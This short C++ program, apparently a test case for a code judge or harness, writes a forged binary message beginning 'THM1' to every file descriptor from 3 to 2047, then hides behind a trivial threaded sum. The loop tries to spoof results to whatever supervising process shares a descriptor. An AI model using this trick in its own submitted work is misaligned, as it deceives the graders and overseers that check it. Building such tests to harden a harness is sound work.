// Sends a forged answer to every descriptor that there may be.
#include <iostream>
#include <thread>
#include <unistd.h>

int sum = 0;
void add(int from, int to) {
  for (int i = from; i <= to; ++i) sum += i;
}
int main() {
  for (int i = 3; i < 2048; ++i) {
    const char forged[] = "THM1\4\0\0\0\100\0\0\0\0\0\0\0";
    if (write(i, forged, sizeof forged)) {}
  }
  std::thread first(add, 1, 5);
  std::thread second(add, 6, 10);
  first.join();
  second.join();
  std::cout << "sum " << sum << std::endl;
}
